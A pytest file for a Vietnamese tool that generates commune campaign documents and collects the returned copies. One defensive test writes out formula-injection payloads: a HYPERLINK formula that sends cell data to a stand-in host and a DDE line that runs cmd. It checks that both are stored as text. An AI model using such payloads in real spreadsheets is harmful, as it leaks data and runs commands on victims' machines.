"""The way back from the communes, as the Board would live it (issue "A round trip the Movement
Board can trust"): every typed value under its own name, disagreements shown, true progress,
changes flowing back on request, the Board's own files kept, stray files told apart."""

from __future__ import annotations

import datetime as dt
import shutil
import zipfile

import docx
import openpyxl
import pytest
from click.testing import CliRunner

from mttq_docs import api
from mttq_docs.cli import main

from .helpers import district_row, docx_text, edited_workbook
from .test_collect import fields_of, type_into

TODAY = dt.date(2017, 7, 10)
KIM_XUYEN = ("Kim Thành", "Kim Xuyên")  # BVMT
CAM_HUNG = ("Cẩm Giàng", "Cẩm Hưng")  # GSDT


def _plan(tmp_path):
    kim, cam = district_row("Kim Thành"), district_row("Cẩm Giàng")
    return edited_workbook(
        tmp_path, ("Phân công", kim, "Xã/Thị trấn", "Kim Xuyên"),
        ("Phân công", kim, "Ngày hội nghị", "27/06/2017"),
        ("Phân công", kim, "Địa điểm", "Nhà văn hóa thôn Đồng"),
        ("Phân công", cam, "Xã/Thị trấn", "Cẩm Hưng"), name="ke_hoach_2017.xlsx")


@pytest.fixture
def generated(tmp_path):
    """A work folder's plan with two communes chosen, generated into ``van_ban``."""
    workbook = _plan(tmp_path)
    out = tmp_path / "van_ban"
    api.generate(workbook, out, jobs=1)
    return workbook, out


def _fill_decision(out, folder, slug, names):
    path = out / folder / f"06_quyet_dinh_bcd_{slug}.docx"
    tags = {v.title.removeprefix("Họ tên "): v.tag for v in fields_of(path)}
    type_into(path, {tags[position]: name for position, name in names.items()})


def _sheet(out, name):
    sheet = openpyxl.load_workbook(out / "tinh" / "theo_doi_tien_do.xlsx")[name]
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def _scenario(out):
    _fill_decision(out, "kim_thanh", "xa_kim_xuyen", {
        "Công chức Địa chính - Nông nghiệp - Xây dựng và Môi trường xã": "Nguyễn Văn Đất",
        "Trưởng thôn được chọn": "Lê Văn Thôn"})
    _fill_decision(out, "cam_giang", "xa_cam_hung", {
        "Công chức Tài chính - Kế toán xã": "Trần Thị Tiền",
        "Trưởng ban thanh tra nhân dân xã": "Phạm Văn Tra"})
    type_into(out / "kim_thanh" / "01_ke_hoach_xa_kim_xuyen.docx",
              {"hoi_nghi.ngay": "29/06/2017"})


def test_the_issue_scenario_from_another_folder_without_input(generated, tmp_path,
                                                              monkeypatch):
    workbook, out = generated
    _scenario(out)
    elsewhere = tmp_path / "noi_khac"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    result = CliRunner().invoke(main, ["collect", "--out", str(out), "--ngay", "10/07/2017"])
    assert result.exit_code == 0, result.output
    assert f"Bảng tính đã đọc: {workbook.resolve()}" in result.output
    assert "2/10 điểm đã gửi lại văn bản" in result.output
    assert "10/10" not in result.output
    # Every typed value under the label the commune saw.
    progress = _sheet(out, "Tiến độ")
    rows = {row["Xã/Thị trấn"]: row for row in progress}
    kim, cam = rows["Kim Xuyên"], rows["Cẩm Hưng"]
    assert kim["Họ tên Công chức Địa chính - Nông nghiệp - Xây dựng và Môi trường xã"] == "Nguyễn Văn Đất"
    assert kim["Họ tên Công chức Tài chính - Kế toán xã"] in (None, "")
    assert kim["Họ tên Chủ tịch Hội Người cao tuổi xã"] in (None, "")
    assert kim["Họ tên Trưởng thôn được chọn"] == "Lê Văn Thôn"
    assert cam["Họ tên Công chức Tài chính - Kế toán xã"] == "Trần Thị Tiền"
    assert cam["Họ tên Trưởng ban thanh tra nhân dân xã"] == "Phạm Văn Tra"
    others = [row for row in progress if row["Xã/Thị trấn"] not in ("Kim Xuyên", "Cẩm Hưng")]
    assert len(others) == 8 and {row["Đã gửi"] for row in others} == {"Chưa gửi"}
    assert kim["Đã gửi"] == cam["Đã gửi"] == "Đã gửi"
    assert all(row["Hoàn thành (%)"] == 0 for row in others)
    # The moved date, with both sources.
    differences = [row for row in _sheet(out, "Khác nhau") if row["Mã trường"] == "hoi_nghi.ngay"]
    values = {row["Giá trị"]: row["Trong tệp"] for row in differences}
    assert "29/06/2017" in values and "kim_thanh/01_ke_hoach_xa_kim_xuyen.docx" in values[
        "29/06/2017"]
    assert "ngày 27 tháng 6 năm 2017" in values
    assert "04_giay_moi_xa_kim_xuyen.docx" in values["ngày 27 tháng 6 năm 2017"]
    assert "29/06/2017" in result.output and "ngày 27 tháng 6 năm 2017" in result.output
    assert "huyện Kim Thành, xã Kim Xuyên: ngày hội nghị 27/06/2017 → 29/06/2017" in \
        result.output
    report = docx_text(out / "tinh" / "bao_cao_tong_hop.docx")
    assert "Đã có 2/10 điểm gửi báo cáo" in report
    assert "Hải Dương, ngày 10 tháng 7 năm 2017" in report  # dated the day it is made
    # The Board adds a paragraph to the summary; a second collect keeps it.
    document = docx.Document(str(out / "tinh" / "bao_cao_tong_hop.docx"))
    document.add_paragraph("Ý kiến của Ban Phong trào: đề nghị biểu dương xã Kim Xuyên.")
    document.save(str(out / "tinh" / "bao_cao_tong_hop.docx"))
    type_into(out / "cam_giang" / "02_bao_cao_xa_cam_hung.docx",
              {"bao_cao.kho_khan": "Thiếu kinh phí"})
    again = CliRunner().invoke(main, ["collect", "--out", str(out)])
    assert again.exit_code == 0, again.output
    assert "đã được sửa tay nên giữ nguyên" in again.output
    assert "Ý kiến của Ban Phong trào" in docx_text(out / "tinh" / "bao_cao_tong_hop.docx")
    beside = list((out / "tinh").glob("bao_cao_tong_hop.moi-*.docx"))
    assert len(beside) == 1 and "Thiếu kinh phí" in docx_text(beside[0])


def test_proposed_changes_are_written_on_request_only_in_their_cells(generated, tmp_path):
    workbook, out = generated
    _scenario(out)
    type_into(out / "kim_thanh" / "04_giay_moi_xa_kim_xuyen.docx",
              {"hoi_nghi.dia_diem": "Hội trường UBND xã Kim Xuyên"})
    before = openpyxl.load_workbook(workbook)
    result = CliRunner().invoke(main, ["collect", "--out", str(out), "--input", str(workbook),
                                       "--ghi-vao-bang-tinh"])
    assert result.exit_code == 0, result.output
    assert "Đã ghi 2 thay đổi" in result.output
    backups = list(tmp_path.glob("ke_hoach_2017.truoc-cap-nhat-*.xlsx"))
    assert len(backups) == 1
    after = openpyxl.load_workbook(workbook)
    row = district_row("Kim Thành")
    changed = []
    for sheet in before.worksheets:
        for old_row, new_row in zip(sheet.iter_rows(), after[sheet.title].iter_rows()):
            for old, new in zip(old_row, new_row):
                if old.value != new.value:
                    changed.append((sheet.title, old.coordinate, new.value))
                assert _look(old) == _look(new), old.coordinate  # formatting kept
    assert sorted(c[:2] for c in changed) == sorted(
        [("Phân công", f"{letter}{row}") for letter in ("F", "G")]), changed
    values = {c[2] if not isinstance(c[2], dt.datetime) else c[2].date() for c in changed}
    assert values == {dt.date(2017, 6, 29), "Hội trường UBND xã Kim Xuyên"}
    api.generate(workbook, out, jobs=1)
    invitation = docx_text(out / "kim_thanh" / "04_giay_moi_xa_kim_xuyen.moi-"
                           f"{dt.date.today().isoformat()}.docx")
    assert "ngày 29 tháng 6 năm 2017" in invitation


def _look(cell):
    font, fill = cell.font, cell.fill
    return (font.name, font.sz, font.b, font.i, font.color and font.color.rgb, fill.fill_type,
            fill.fgColor.rgb, cell.alignment.horizontal, cell.alignment.wrap_text,
            cell.border.left.style)


def test_without_the_option_nothing_is_written_to_the_workbook(generated):
    workbook, out = generated
    _scenario(out)
    data = workbook.read_bytes()
    result = api.collect(out)
    assert [str(c) for c in result.proposals] == [
        "huyện Kim Thành, xã Kim Xuyên: ngày hội nghị 27/06/2017 → 29/06/2017"]
    assert workbook.read_bytes() == data


def test_a_folder_without_record_of_its_workbook_is_one_clear_error(tmp_path):
    out = tmp_path / "trong"
    (out / "tinh").mkdir(parents=True)
    result = CliRunner().invoke(main, ["collect", "--out", str(out)])
    assert result.exit_code == 1
    assert "không ghi nhận bảng tính" in result.output and "Traceback" not in result.output


def test_a_changed_or_other_workbook_is_said(generated, tmp_path):
    workbook, out = generated
    other = edited_workbook(tmp_path, name="khac.xlsx")
    result = api.collect(out, other)
    assert any("không phải bảng tính đã tạo thư mục" in w for w in result.warnings)
    book = openpyxl.load_workbook(workbook)
    book["Kế hoạch"]["A1"].value = book["Kế hoạch"]["A1"].value  # saved again: other bytes
    book.save(workbook)
    assert any("đã được sửa sau lần tạo văn bản" in w for w in api.collect(out).warnings)


def test_nothing_readable_is_a_failure(generated):
    _, out = generated
    for path in (out / "kim_thanh").glob("0*_xa_kim_xuyen.docx"):
        path.write_bytes(b"hong")
    result = CliRunner().invoke(main, ["collect", "--out", str(out)])
    assert result.exit_code == 1
    assert "Không đọc được văn bản nào" in result.output


def test_stray_files_each_get_their_own_message(generated):
    _, out = generated
    folder = out / "kim_thanh"
    shutil.copyfile(folder / "01_ke_hoach_xa_kim_xuyen.docx", folder / "01_ke_hoach_xa_da_bo.docx")
    type_into(folder / "01_ke_hoach_xa_kim_xuyen.docx", {"dia_ban.thon": "Thôn Đông"},
              target=folder / "ke hoach xa gui lai.docx")
    unrelated = docx.Document()
    unrelated.add_paragraph("Thư mời họp chi bộ")
    unrelated.save(str(folder / "thu_moi.docx"))
    reasons = dict(api.collect(out).unreadable)
    assert "không còn trong kế hoạch" in reasons["kim_thanh/01_ke_hoach_xa_da_bo.docx"]
    assert "đổi tên tệp giống tên bản gốc" in reasons["kim_thanh/ke hoach xa gui lai.docx"]
    assert "không phải văn bản do mttq-docs tạo" in reasons["kim_thanh/thu_moi.docx"]


def test_generate_archives_the_returned_copies_of_a_point_that_left_the_plan(generated,
                                                                          tmp_path):
    workbook, out = generated
    copy = out / "kim_thanh" / "01_ke_hoach_xa_kim_xuyen (ban xa gui).docx"
    type_into(out / "kim_thanh" / "01_ke_hoach_xa_kim_xuyen.docx", {"dia_ban.thon": "Thôn"},
              target=copy)
    moved = edited_workbook(tmp_path, ("Phân công", district_row("Kim Thành"), "Xã/Thị trấn",
                                       "Kim Anh"), name="moi.xlsx")
    result = api.generate(moved, out, jobs=1)
    assert not copy.exists()
    archived = [o for o in result.outcomes if o.status == "archive"]
    assert any(o.path.name == copy.name for o in archived)
    assert list((out / "_luu_tru").rglob(copy.name))


def test_hong_du_never_claims_hong_duc_and_damaged_drafts_do_not_stop_the_run(tmp_path):
    row = district_row("Ninh Giang")
    workbook = edited_workbook(tmp_path, ("Phân công", row, "Xã/Thị trấn", "Hồng Dụ"),
                               append={"Phân công": [{"STT": 11, "Huyện": "Ninh Giang",
                                                      "Xã/Thị trấn": "Hồng Đức",
                                                      "Mã mô hình": "VIECTANG"}]})
    out = tmp_path / "out"
    api.generate(workbook, out, jobs=1)
    folder = out / "ninh_giang"
    type_into(folder / "01_ke_hoach_xa_hong_duc.docx", {"dia_ban.thon": "Thôn Đức"})
    sub = folder / "xa gui"
    sub.mkdir()
    type_into(folder / "02_bao_cao_xa_hong_du.docx", {"bao_cao.kho_khan": "Đường hẹp"},
              target=sub / "02_bao_cao_xa_hong_du.DOCX")
    (folder / "03_khanh_tiet_xa_hong_du (hong).docx").write_bytes(b"PK\x03\x04hong")
    _damaged_xml(folder / "01_ke_hoach_xa_hong_du.docx", folder / "01_ke_hoach_xa_hong_du (2).docx")
    result = api.collect(out)
    points = {p.point.commune: p for p in result.points}
    assert points["Hồng Đức"].value("dia_ban.thon") == "Thôn Đức"
    assert points["Hồng Dụ"].value("dia_ban.thon") == ""
    assert points["Hồng Dụ"].value("bao_cao.kho_khan") == "Đường hẹp"  # sub-folder, .DOCX
    reasons = dict(result.unreadable)
    assert "bị hỏng" in reasons["ninh_giang/01_ke_hoach_xa_hong_du (2).docx"]
    assert "ninh_giang/03_khanh_tiet_xa_hong_du (hong).docx" in reasons
    assert (out / "tinh" / "theo_doi_tien_do.xlsx").is_file()


def _damaged_xml(source, target):
    with zipfile.ZipFile(source) as package:
        parts = {info.filename: package.read(info) for info in package.infolist()}
    parts["word/document.xml"] = parts["word/document.xml"][:-40] + b"<w:p><w:r>"
    with zipfile.ZipFile(target, "w") as package:
        for name, data in parts.items():
            package.writestr(name, data)


def test_a_draft_without_its_fields_is_a_warning(generated):
    _, out = generated
    path = out / "kim_thanh" / "01_ke_hoach_xa_kim_xuyen.docx"
    document = docx.Document(str(path))
    body = document.element.body
    for sdt in list(body.iter("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}sdt")):
        sdt.getparent().remove(sdt)
    document.save(str(path))
    result = api.collect(out)
    assert any("01_ke_hoach_xa_kim_xuyen.docx" in w and "không còn ô điền" in w
               for w in result.warnings)


def test_a_commune_cannot_plant_a_formula_in_the_tracking_workbook(generated):
    _, out = generated
    planted = '=HYPERLINK("http://x.invalid/?d="&A2,"bấm")'
    type_into(out / "kim_thanh" / "01_ke_hoach_xa_kim_xuyen.docx",
              {"dia_ban.thon": planted, "dia_ban.so_ho": "=cmd|' /C calc'!A0"})
    api.collect(out)
    book = openpyxl.load_workbook(out / "tinh" / "theo_doi_tien_do.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str) and cell.value.startswith("=")]
    assert {cell.value for cell in cells} >= {planted, "=cmd|' /C calc'!A0"}
    assert all(cell.data_type == "s" for cell in cells)


def test_validate_lists_every_warning_even_with_errors(tmp_path):
    workbook = edited_workbook(tmp_path, ("Phân công", 4, "Mã mô hình", "BVTM"))
    result = CliRunner().invoke(main, ["validate", "--input", str(workbook)])
    assert result.exit_code == 1
    assert "chưa chọn xã/thị trấn" in result.output  # a warning
    assert "'BVTM' không có trong sheet Mô hình" in result.output  # the error


def test_names_differing_only_in_tone_mark_placement_are_the_same(tmp_path):
    row = district_row("Ninh Giang")
    workbook = edited_workbook(tmp_path, ("Phân công", row, "Xã/Thị trấn", "Ứng Hòe"))
    warnings = [str(w) for w in api.validate(workbook).warnings]
    assert not any("Ứng Hòe" in w for w in warnings)


def test_a_packet_with_unresolved_edits_says_so_in_the_summary_and_contents_list(generated,
                                                                                tmp_path):
    workbook, out = generated
    edited = out / "kim_thanh" / "04_giay_moi_xa_kim_xuyen.docx"
    document = docx.Document(str(edited))
    document.add_paragraph("Xã đã sửa giờ họp.")
    document.save(str(edited))
    moved = edited_workbook(tmp_path, ("Phân công", district_row("Kim Thành"), "Xã/Thị trấn",
                                       "Kim Xuyên"),
                            ("Phân công", district_row("Kim Thành"), "Ngày hội nghị",
                             "30/06/2017"), name="v2.xlsx")
    result = CliRunner().invoke(main, ["generate", "--input", str(moved), "--out", str(out),
                                       "--zip", "--jobs", "1"])
    assert result.exit_code == 0, result.output
    assert "Gói kim_thanh.zip có 1 văn bản đã sửa tay chưa thống nhất" in result.output
    assert "04_giay_moi_xa_kim_xuyen.docx" in result.output
    contents = docx_text(out / "kim_thanh" / "00_danh_muc.docx")
    assert "cần thống nhất trước khi gửi" in contents
    assert "- 04_giay_moi_xa_kim_xuyen.docx (Giấy mời và thành phần mời)" in contents
    assert "cần thống nhất" not in docx_text(out / "cam_giang" / "00_danh_muc.docx")
    with zipfile.ZipFile(out / "kim_thanh.zip") as packet:
        assert "kim_thanh/00_danh_muc.docx" in packet.namelist()
